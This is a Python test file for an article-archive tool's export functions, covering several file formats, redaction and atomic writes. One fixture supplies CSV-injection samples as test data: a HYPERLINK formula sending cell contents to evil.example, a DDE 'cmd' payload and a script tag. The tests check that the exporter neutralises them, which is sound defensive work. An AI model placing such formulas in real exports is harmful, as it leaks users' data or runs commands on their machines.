"""Taking versions out: what is in the files, that they are whole, and that nothing hostile gets through."""

from __future__ import annotations

import csv
import hashlib
import json
import sqlite3
from collections.abc import Callable
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars
import pyarrow.parquet as pq
import pytest

from palimpsest.errors import BadQuery, CannotWrite, FixInput, StoreError
from palimpsest.exports import csv as csv_format
from palimpsest.exports import jsonl
from palimpsest.exports.captures import Span, take_captures
from palimpsest.exports.rows import FIELDS
from palimpsest.exports.selection import Selection
from palimpsest.exports.taking import FORMATS, take_versions
from palimpsest.model import Extraction, Heading, Paragraph, Source, Video, VideoBlock, sha256
from palimpsest.storage import Archive

from .judges import judge, needs_judges

NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
HOUR = timedelta(hours=1)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
Visit = Callable[..., int]


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


@pytest.fixture
def three(archive: Archive, source: Source, visit: Visit) -> Archive:
    """Three articles, the first with three versions, one of another outlet."""
    visit(b"one", source_id=source.id, title="First")
    visit(b"other", url="https://herald.example/b", at=NOW + HOUR, source_id=source.id, title="Second")
    visit(b"two", at=NOW + 2 * HOUR, source_id=source.id, title="First, changed")
    visit(b"two", at=NOW + 3 * HOUR, source_id=source.id)
    visit(b"three", at=NOW + 4 * HOUR, source_id=source.id, title="First, again")
    visit(b"elsewhere", url="https://else.example/c", at=NOW + 5 * HOUR, title="Third")
    return archive


def taken(archive: Archive, path: Path, name: str = "jsonl", **selection: Any) -> list[dict[str, Any]]:
    take_versions(archive, Selection(**selection), name, path, force=True)
    return lines(path) if name == "jsonl" else []


def test_the_latest_versions_go_out_with_all_that_is_known_of_them(three: Archive, tmp_path: Path) -> None:
    rows = taken(three, tmp_path / "out.jsonl")
    assert [row["title"] for row in rows] == ["Second", "First, again", "Third"]
    row = rows[1]
    assert list(row) == list(FIELDS)
    (last,) = (version for version in three.versions(1) if version.number == 3)
    assert row["public_id"] == last.public_id
    assert (row["url"], row["source"], row["number"]) == ("https://herald.example/a", "herald", 3)
    assert row["text"] == "three"
    assert row["blocks"] == [{"kind": "paragraph", "text": "three"}]
    assert row["first_seen"] == "2026-03-01T16:00:00.000000Z"
    assert row["payload_sha256"] == sha256(b"three").hex()
    assert row["permalink"] is None
    assert rows[2]["source"] is None


def test_every_version_goes_out_and_those_of_one_source(three: Archive, tmp_path: Path) -> None:
    assert [row["number"] for row in taken(three, tmp_path / "a", versions="all")] == [1, 1, 2, 3, 1]
    assert len(taken(three, tmp_path / "b", versions="all", source="herald")) == 4
    with pytest.raises(BadQuery, match="source list"):
        taken(three, tmp_path / "c", source="nobody")


def test_as_of_a_moment_things_are_as_they_stood_and_stay_so(
    three: Archive, visit: Visit, tmp_path: Path
) -> None:
    when = NOW + 2 * HOUR + timedelta(minutes=1)
    rows = taken(three, tmp_path / "then.jsonl", as_of=when)
    assert {row["title"] for row in rows} == {"First, changed", "Second"}
    first = next(row for row in rows if row["article_id"] == 1)
    assert (first["captures"], first["last_seen"]) == (1, "2026-03-01T14:00:00.000000Z")
    before = (tmp_path / "then.jsonl").read_bytes()
    visit(b"four", at=NOW + 9 * HOUR, title="First, much later")
    taken(three, tmp_path / "then.jsonl", as_of=when)
    assert (tmp_path / "then.jsonl").read_bytes() == before
    assert taken(three, tmp_path / "early.jsonl", as_of=NOW - HOUR) == []
    assert len(taken(three, tmp_path / "all.jsonl", as_of=when, versions="all")) == 3


def test_as_of_a_moment_at_which_a_redacted_version_stood_the_others_go_out(
    three: Archive, tmp_path: Path
) -> None:
    three.redact(1, three.versions(1)[1].id, reason="a court order", now=NOW + 9 * HOUR)
    rows = taken(three, tmp_path / "then.jsonl", as_of=NOW + 2 * HOUR + timedelta(minutes=1))
    assert [row["title"] for row in rows] == ["Second"]
    assert len(taken(three, tmp_path / "now.jsonl", as_of=NOW + 8 * HOUR)) == 3
    three.redact(2, reason="privacy", now=NOW + 9 * HOUR)
    assert len(taken(three, tmp_path / "later.jsonl", as_of=NOW + 8 * HOUR)) == 2


def test_a_query_chooses_and_a_bad_one_is_refused(three: Archive, tmp_path: Path) -> None:
    assert [row["title"] for row in taken(three, tmp_path / "a", query="second OR elsewhere")] == [
        "Second",
        "Third",
    ]
    assert len(taken(three, tmp_path / "b", query="two", versions="all")) == 1
    assert taken(three, tmp_path / "c", query="two") == []
    with pytest.raises(BadQuery):
        taken(three, tmp_path / "d", query='"never closed')
    assert not (tmp_path / "d").exists()


def test_the_manifest_says_what_the_file_is(three: Archive, tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    asked = Selection(query="first", versions="all", source="herald", as_of=NOW + 9 * HOUR)
    told: list[tuple[int, int]] = []
    take_versions(three, asked, "jsonl", path, progress=lambda *both: told.append(both))
    said = json.loads((tmp_path / "out.jsonl.manifest.json").read_text("utf-8"))
    assert said["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert said["bytes"] == path.stat().st_size
    assert said["counts"] == {"versions": 3} == {"versions": len(lines(path))}
    assert (said["query"], said["versions"], said["source"]) == ("first", "all", "herald")
    assert said["as_of"] == "2026-03-01T21:00:00Z"
    assert said["software"].startswith("Palimpsest/")
    assert told == [(1, 3), (2, 3), (3, 3)]


def test_no_export_is_written_over_the_archive_itself(three: Archive) -> None:
    for own in three.files:
        before = own.read_bytes() if own.exists() else None
        if before is not None:
            with pytest.raises(FixInput, match="the archive's own"):
                take_versions(three, Selection(), "jsonl", own, force=True)
            assert own.read_bytes() == before


def test_a_file_that_exists_is_kept_unless_it_may_go(three: Archive, tmp_path: Path) -> None:
    path = tmp_path / "out.jsonl"
    path.write_text("mine", "utf-8")
    with pytest.raises(FixInput, match="--force"):
        take_versions(three, Selection(), "jsonl", path)
    assert path.read_text("utf-8") == "mine"
    take_versions(three, Selection(), "jsonl", path, force=True)
    assert len(lines(path)) == 3
    with pytest.raises(CannotWrite):
        take_versions(three, Selection(), "jsonl", tmp_path / "no" / "out.jsonl")


def test_what_fails_half_way_leaves_nothing_under_the_name(
    three: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "out.jsonl"

    def fail(done: int, _all: int) -> None:
        if done == 2:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        take_versions(three, Selection(), "jsonl", path, progress=fail)
    monkeypatch.setattr(jsonl, "count", lambda path: 2)  # a file that lost a line
    with pytest.raises(StoreError, match="2 versions in place of 3"):
        take_versions(three, Selection(), "jsonl", path)
    assert list(tmp_path.glob("out*")) == []


@pytest.mark.parametrize("name", ["jsonl", "csv", "parquet", "sqlite", "warc", "wacz"])
def test_an_export_that_is_interrupted_leaves_nothing_and_an_older_file_as_it_was(
    three: Archive, tmp_path: Path, name: str
) -> None:
    path = tmp_path / {"warc": "out.warc.gz"}.get(name, f"out.{name}")
    path.write_text("older", "utf-8")

    def stop(done: int, _all: int) -> None:
        if done == 2:
            raise KeyboardInterrupt

    def take() -> None:
        if name in FORMATS:
            take_versions(three, Selection(), name, path, force=True, progress=stop)
        else:
            take_captures(three, name, path, Span(), force=True, progress=stop)

    with pytest.raises(KeyboardInterrupt):
        take()
    assert [file.name for file in tmp_path.glob("out*")] == [path.name]
    assert path.read_text("utf-8") == "older"


def test_what_a_crawl_adds_meanwhile_changes_nothing(three: Archive, visit: Visit, tmp_path: Path) -> None:
    def crawl(done: int, _all: int) -> None:
        visit(b"late %d" % done, at=NOW + (9 + done) * HOUR, title="Late")
        visit(b"new", url=f"https://herald.example/new{done}", at=NOW + 9 * HOUR)

    made = take_versions(three, Selection(), "jsonl", tmp_path / "out.jsonl", progress=crawl)
    assert made.counts == {"versions": 3}
    assert "Late" not in {row["title"] for row in lines(tmp_path / "out.jsonl")}


@pytest.fixture
def hostile(archive: Archive, visit: Visit, make_capture: Callable[..., Any]) -> Archive:
    """A page that is written against those who read exports."""
    page = Extraction(
        url="https://evil.example/",
        title=HOSTILE,
        standfirst="'=1+1",
        authors=("@SUM(1)", 'O"Neil, J.', "名字"),
        section="-2+3",
        tags=("a,b", "c\r\nd"),
        published="2026-03-01",
        language="en",
        blocks=(
            Paragraph(text="line\u2028break \x00 and \ud800 half\x85; =cmd|'/C calc'!A0"),
            Heading(text="<script>alert(1)</script>"),
            VideoBlock(video=Video(url="https://video.example/1", duration=1.5)),
        ),
        videos=(Video(url="https://video.example/1", duration=1.5),),
    )
    with archive.transaction() as tx:
        article = tx.add_article(None, "https://evil.example/", "evil.example/", now=NOW)
        capture = tx.add_capture(make_capture("https://evil.example/"), article_id=article.id)
        tx.add_version(article.id, capture, page, bytes(32), at=NOW)
        tx.set_article(article.id, last_seen=NOW)
    return archive


def test_hostile_text_stays_one_value_in_every_format(hostile: Archive, tmp_path: Path) -> None:
    for name in FORMATS:
        made = take_versions(hostile, Selection(), name, tmp_path / f"out.{name}")
        assert made.counts == {"versions": 1}
    (row,) = lines(tmp_path / "out.jsonl")  # splitlines: no character of the text ends a line
    assert row["title"] == HOSTILE
    assert row["text"].startswith("line\u2028break \ufffd and \ufffd half\x85")
    assert row["videos"] == [{"url": "https://video.example/1", "duration": 1.5}]
    raw = (tmp_path / "out.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        (cells,) = csv.DictReader(file)
    assert cells["title"] == "'" + HOSTILE
    assert cells["standfirst"] == "''=1+1"
    assert cells["section"] == "'-2+3"
    assert cells["authors"] == "'@SUM(1); O\"Neil, J.; 名字"
    assert csv_format.unguarded(cells["title"]) == HOSTILE
    assert json.loads(cells["blocks"]) == row["blocks"]
    (read,) = pq.read_table(tmp_path / "out.parquet").to_pylist()
    assert read["title"] == HOSTILE
    assert read["authors"] == ["@SUM(1)", 'O"Neil, J.', "名字"]
    assert read["first_seen"] == NOW
    assert json.loads(read["blocks"]) == row["blocks"]


@pytest.mark.parametrize(
    "text", ["", "a", "'", "'a", "=", "'=", "''=", "-1", "+", "@x", "\tx", "\r", "＝1", "a=1", "'a=", " =1"]
)
def test_a_guarded_cell_is_undone_without_loss(text: str) -> None:
    cell = csv_format.guarded(text)
    assert csv_format.unguarded(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))


@needs_judges
def test_duckdb_reads_the_parquet_with_its_types(three: Archive, tmp_path: Path) -> None:
    path = tmp_path / "out.parquet"
    take_versions(three, Selection(versions="all"), "parquet", path)
    code = (
        'import duckdb, sys; print(duckdb.sql("SELECT count(*), max(number), min(year(first_seen)),'
        ' typeof(any_value(authors)) FROM read_parquet(\'" + sys.argv[1] + "\')").fetchall())'
    )
    told = judge("python", "-c", code, path)
    count = len(pq.read_table(path))
    assert told.startswith(f"[({count}, ")
    assert told.rstrip().endswith("2026, 'VARCHAR[]')]")


def test_polars_reads_the_parquet_with_its_types(three: Archive, tmp_path: Path) -> None:
    take_versions(three, Selection(versions="all"), "parquet", tmp_path / "out.parquet")
    frame = polars.read_parquet(tmp_path / "out.parquet")
    assert frame.columns == list(FIELDS)
    assert frame["first_seen"].to_list()[0] == NOW
    by_source = dict(frame.group_by("source").len().iter_rows())
    assert by_source == {"herald": 4, None: 1}


def test_the_permanent_link_is_there_once_the_archive_has_an_address(three: Archive, tmp_path: Path) -> None:
    web = three.settings.web.model_copy(update={"base_url": "https://news.example.org/"})
    three.settings = three.settings.model_copy(update={"web": web})
    row = taken(three, tmp_path / "out.jsonl")[0]
    assert row["permalink"] == f"https://news.example.org/version/{row['public_id']}"


def test_an_archive_with_nothing_in_it_gives_empty_files(archive: Archive, tmp_path: Path) -> None:
    for name in FORMATS:
        made = take_versions(archive, Selection(versions="all"), name, tmp_path / f"out.{name}")
        assert made.counts == {"versions": 0}


def test_the_database_stands_alone_with_views_for_people(three: Archive, tmp_path: Path) -> None:
    path = tmp_path / "out.db"
    take_versions(three, Selection(versions="all"), "sqlite", path)
    with closing(sqlite3.connect(path)) as db:
        assert db.execute("SELECT title FROM articles_latest ORDER BY title").fetchall() == [
            ("First, again",),
            ("Second",),
            ("Third",),
        ]
        edits = db.execute("SELECT old_title, new_title, new_text FROM edits ORDER BY number").fetchall()
        assert edits == [("First", "First, changed", "two"), ("First, changed", "First, again", "three")]
        assert db.execute("SELECT source, count(*) FROM versions GROUP BY source").fetchall() == [
            (None, 1),
            ("herald", 4),
        ]


def test_the_database_has_a_row_for_each_author_tag_and_video(hostile: Archive, tmp_path: Path) -> None:
    path = tmp_path / "out.db"
    path.with_name("out.db.part").write_text("what a killed export left", "utf-8")
    take_versions(hostile, Selection(), "sqlite", path)
    with closing(sqlite3.connect(path)) as db:
        assert db.execute("SELECT name FROM authors ORDER BY position").fetchall() == [
            ("@SUM(1)",),
            ('O"Neil, J.',),
            ("名字",),
        ]
        assert db.execute("SELECT url, duration FROM videos").fetchall() == [("https://video.example/1", 1.5)]
        assert db.execute("SELECT count(*) FROM tags").fetchone() == (2,)
        assert db.execute("SELECT title FROM versions").fetchone() == (HOSTILE,)


def test_what_was_redacted_goes_out_in_no_form(three: Archive, tmp_path: Path) -> None:
    middle = next(version for version in three.versions(1) if version.number == 2)
    three.redact(1, middle.id, reason="a name", now=NOW + 9 * HOUR)
    assert [row["number"] for row in taken(three, tmp_path / "a", versions="all")] == [1, 1, 3, 1]
    then = taken(three, tmp_path / "b", as_of=NOW + 3 * HOUR)
    assert [row["title"] for row in then] == ["Second"]
    everything = taken(three, tmp_path / "c", versions="all", as_of=NOW + 3 * HOUR)
    assert [row["title"] for row in everything] == ["First", "Second"]
    made = take_captures(three, "warc", tmp_path / "d.warc.gz", Span())
    assert made.counts["captures"] == 4
    assert taken(three, tmp_path / "e", query="changed", versions="all") == []


def test_a_redacted_article_goes_out_in_no_form(three: Archive, tmp_path: Path) -> None:
    three.redact(1, reason="a name", now=NOW + 9 * HOUR)
    assert [row["title"] for row in taken(three, tmp_path / "a", versions="all")] == ["Second", "Third"]
    assert [row["title"] for row in taken(three, tmp_path / "b")] == ["Second", "Third"]
    assert len(list(three.found(versions="all"))) == 2
    assert take_captures(three, "wacz", tmp_path / "c.wacz", Span()).counts["captures"] == 2
